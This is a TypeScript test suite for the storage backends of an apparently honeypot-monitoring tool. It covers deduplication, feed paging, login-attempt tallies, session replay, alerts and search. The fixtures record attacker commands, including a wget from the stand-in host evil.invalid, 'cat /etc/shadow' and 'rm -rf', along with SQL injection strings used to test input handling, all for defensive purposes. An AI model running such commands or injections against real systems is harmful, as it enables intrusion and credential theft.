/** What every engine of the store must do. `engine.open` opens the same data again after a close. */
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import type { Store } from '../src/index.ts';
import { alert, at, auth, command, containment, growth, START, session, terminal } from './fixtures.ts';

export interface Engine {
  readonly name: string;
  /** A fresh place; `open` may be called many times on it, `remove` at the end. */
  place(): { open(): Promise<Store>; remove(): Promise<void> };
}

const limits = { commands: 100, terminal: 100, terminalBytes: 1 << 20, others: 100 };

export function storeSuite(engine: Engine): void {
  const places: { remove(): Promise<void> }[] = [];
  after(async () => {
    for (const place of places) await place.remove();
  });
  const run = (name: string, body: (store: Store, reopen: () => Promise<Store>) => Promise<void>) =>
    test(`${engine.name}: ${name}`, async () => {
      const place = engine.place();
      places.push(place);
      let store = await place.open();
      const reopen = async () => {
        await store.close();
        store = await place.open();
        return store;
      };
      try {
        await body(store, reopen);
      } finally {
        await store.close();
      }
    });

  run('an empty store answers every question', async (store) => {
    assert.equal(await store.position(), undefined);
    assert.equal(await store.lastSeq(), 0);
    assert.deepEqual(await store.feed({ datasets: ['system.auth'], limit: 10 }), []);
    assert.deepEqual(await store.addresses({ limit: 10, order: 'last' }), []);
    assert.equal(await store.session('none', limits), undefined);
    assert.deepEqual(await store.series({ from: START, to: START, step: 1 }), []);
    assert.equal((await store.totals()).events, 0);
    assert.deepEqual(await store.search('anything', 10), []);
  });

  run('a document delivered twice is stored once, and the position is kept with it', async (store, reopen) => {
    const first = auth(1, 0, '192.0.2.1', 'root', 'a');
    assert.deepEqual(await store.insert([first], { file: 'documents.00000003.jsonl', offset: 120 }), {
      stored: 1,
      same: 0,
    });
    assert.deepEqual(await store.insert([first], { file: 'documents.00000003.jsonl', offset: 240 }), {
      stored: 0,
      same: 1,
    });
    const again = await reopen();
    assert.deepEqual(await again.position(), { file: 'documents.00000003.jsonl', offset: 240 });
    assert.deepEqual((await again.totals()).documents, { 'system.auth': 1 });
    assert.equal((await again.address('192.0.2.1'))?.attempts, 1);
    assert.equal(await again.lastSeq(), 1);
    assert.deepEqual((await again.document('auth-1'))?.document, first);
    assert.equal(await again.document('auth-2'), undefined);
  });

  run('a changed document replaces the old one, gets a new number, and counts once', async (store, reopen) => {
    await store.insert([session('s1', 0, '192.0.2.1'), growth(0, 10), auth(1, 0, '192.0.2.1', 'root', undefined)]);
    const seq = await store.lastSeq();
    await store.insert([session('s1', 0, '192.0.2.1', 5000), growth(0, 25), auth(1, 0, '192.0.2.1', 'root', 'late')]);
    const fresh = await store.since(seq, 10);
    assert.deepEqual(
      fresh.map((s) => s.document._id),
      ['session-s1', 'growth-0', 'auth-1'],
    );
    const again = await reopen();
    const totals = await again.totals();
    assert.deepEqual(totals.documents, { 'capture.growth': 1, 'honeypot.session': 1, 'system.auth': 1 });
    assert.equal(totals.events, 25);
    assert.equal(totals.lost, 1);
    assert.deepEqual(
      (await again.guesses('192.0.2.1', 10)).map((g) => [g.password, g.attempts]),
      [['late', 1]],
    );
    assert.equal((await again.session('s1', limits))?.session.document.waspglass.ended, at(5000));
    await again.insert([auth(2, 10, '192.0.2.1', 'root', 'b')]);
    assert.equal((await again.address('192.0.2.1'))?.attempts, 2);
  });

  run('the feed pages backwards and forwards without doubles or gaps', async (store) => {
    const many = Array.from({ length: 25 }, (_, n) => auth(n, Math.floor(n / 3), '192.0.2.1', 'root', `p${n}`));
    await store.insert([...many, alert(1, 4, 'Write to cron', 'Warning'), growth(0, 5)]);
    const datasets = ['system.auth', 'falco.alerts'] as const;
    const all = await store.feed({ datasets, limit: 100 });
    assert.equal(all.length, 26);
    const ids: string[] = [];
    let before: string | undefined;
    for (let page = 0; page < 10; page++) {
      const rows = await store.feed({ datasets, limit: 7, ...(before === undefined ? {} : { before }) });
      ids.push(...rows.map((row) => row.document._id));
      before = rows.at(-1)?.cursor ?? before;
      if (rows.length < 7) break;
    }
    assert.deepEqual(
      ids,
      all.map((row) => row.document._id),
    );
    const tenth = all[10]?.cursor ?? '';
    const newer = await store.feed({ datasets, limit: 4, after: tenth });
    assert.deepEqual(
      newer.map((row) => row.document._id),
      all.slice(6, 10).map((row) => row.document._id),
    );
    await assert.rejects(store.feed({ datasets, limit: 4, before: `1' OR 1=1` }), /WG_STORE_CURSOR/);
  });

  run('addresses list attempts, users, passwords and whether one got in', async (store) => {
    await store.insert([
      auth(1, 0, '192.0.2.1', 'root', '123456'),
      auth(2, 100, '192.0.2.1', 'root', '123456'),
      auth(3, 200, '192.0.2.1', 'admin', 'nul\0 and \u202e'),
      auth(4, 300, '192.0.2.1', 'root', 'passw0rd', 'success'),
      auth(5, 900, '198.51.100.7', 'pi', undefined),
    ]);
    const [last, first] = await store.addresses({ limit: 10, order: 'last' });
    assert.equal(last?.ip, '198.51.100.7');
    assert.deepEqual(first, {
      ip: '192.0.2.1',
      attempts: 4,
      successes: 1,
      first: START,
      last: START + 300,
      users: 2,
      passwords: 3,
    });
    assert.equal((await store.addresses({ limit: 1, order: 'attempts' }))[0]?.ip, '192.0.2.1');
    const guesses = await store.guesses('192.0.2.1', 10);
    assert.deepEqual(
      guesses.map((g) => [g.user, g.password, g.attempts, g.successes]),
      [
        ['root', 'passw0rd', 1, 1],
        ['root', '123456', 2, 0],
        ['admin', 'nul\0 and \u202e', 1, 0],
      ],
    );
    assert.deepEqual((await store.guesses('198.51.100.7', 10))[0]?.password, null);
    assert.equal((await store.address('198.51.100.7'))?.passwords, 0);
    await store.insert([
      auth(5, 900, '198.51.100.7', 'pi', 'found later'),
      auth(3, 200, '192.0.2.1', 'root', '123456'),
    ]);
    const counts = async (ip: string) => {
      const row = await store.address(ip);
      return [row?.attempts, row?.users, row?.passwords];
    };
    assert.deepEqual(await counts('198.51.100.7'), [1, 1, 1]);
    assert.deepEqual(await counts('192.0.2.1'), [4, 1, 2]);
  });

  run('a session comes with its parts in order, the attempts before it, and its limits', async (store) => {
    await store.insert([
      auth(1, 0, '192.0.2.1', 'root', 'x'),
      auth(2, 900, '192.0.2.1', 'root', 'passw0rd', 'success'),
      auth(3, 60_000, '192.0.2.1', 'root', 'later'),
      session('s1', 1000, '192.0.2.1'),
      command('s1', 2, 2000, 'cat /etc/shadow'),
      command('s1', 1, 1500, 'uname -a'),
      command('s2', 1, 1500, 'other'),
      terminal('s1', 1, 1600, 'Linux victim'),
      alert(1, 2001, 'Read shadow', 'Critical', 's1'),
    ]);
    const rows = await store.session('s1', limits);
    assert.deepEqual(
      rows?.documents.map((d) => d._id),
      ['command-s1-1', 'command-s1-2', 'terminal-s1-1', 'alert-1'],
    );
    assert.deepEqual(
      rows?.attempts.map((d) => d._id),
      ['auth-1', 'auth-2'],
    );
    assert.equal(rows?.truncated, false);
    const cut = await store.session('s1', { ...limits, commands: 1, terminalBytes: 10 });
    assert.deepEqual(
      cut?.documents.map((d) => d._id),
      ['command-s1-1', 'alert-1'],
    );
    assert.equal(cut?.truncated, true);
    const [listed] = await store.sessions({ limit: 5 });
    assert.equal(listed?.counts['honeypot.command'], 2);
    assert.deepEqual(await store.sessions({ limit: 5, ip: '203.0.113.1' }), []);
  });

  run('alerts are chosen by gravity and by rule', async (store) => {
    await store.insert([alert(1, 1, 'A', 'Notice'), alert(2, 2, 'B', 'Critical'), alert(3, 3, 'A', 'Warning')]);
    const ids = async (query: object) => (await store.alerts({ limit: 10, ...query })).map((row) => row.document._id);
    assert.deepEqual(await ids({}), ['alert-3', 'alert-2', 'alert-1']);
    assert.deepEqual(await ids({ maxSeverity: 4 }), ['alert-3', 'alert-2']);
    assert.deepEqual(await ids({ rule: 'A' }), ['alert-3', 'alert-1']);
  });

  run('the series sums minutes into steps', async (store) => {
    await store.insert([containment(1, 7), containment(2, 5)]);
    await store.insert([growth(0, 10), growth(1, 20), growth(4, 40), auth(1, 61_000, '192.0.2.1', 'root', 'x')]);
    const range = { from: START, to: START + 300_000 };
    const minutes = await store.series({ ...range, step: 1 });
    assert.deepEqual(
      minutes.map((row) => [row.time - START, row.events, row.attempts]),
      [
        [0, 10, 0],
        [60_000, 20, 1],
        [240_000, 40, 0],
      ],
    );
    assert.deepEqual(
      (await store.series({ ...range, step: 5 })).map((row) => row.bytes),
      [7000],
    );
    const { events, bytes, droppedPackets, droppedBytes } = await store.totals();
    assert.deepEqual([events, bytes, droppedPackets, droppedBytes], [70, 7000, 12, 720]);
  });

  run('search finds words in messages, commands and terminal text, and takes any input', async (store) => {
    await store.insert([
      command('s1', 1, 10, 'wget http://evil.invalid/zbbpxdqalfe.sh'),
      terminal('s1', 1, 20, 'root:$6$salt:19000'),
      auth(1, 30, '192.0.2.1', 'root', 'hunter2'),
    ]);
    const ids = async (text: string) => (await store.search(text, 10)).map((row) => row.document._id);
    assert.deepEqual(await ids('evil.invalid wget'), ['command-s1-1']);
    assert.deepEqual(await ids('zbbpx'), ['command-s1-1']);
    assert.deepEqual(await ids('salt'), ['terminal-s1-1']);
    assert.deepEqual(await ids('hunter2'), ['auth-1']);
    for (const odd of ['"', '***', 'a OR b', 'NEAR(', '\0', 'message:root', '-', `'; DROP TABLE documents`])
      await ids(odd);
    await store.insert([{ ...command('s1', 1, 10, 'rm -rf /tmp/x') }]);
    assert.deepEqual(await ids('wget'), []);
    assert.deepEqual(await ids('tmp'), ['command-s1-1']);
  });
}
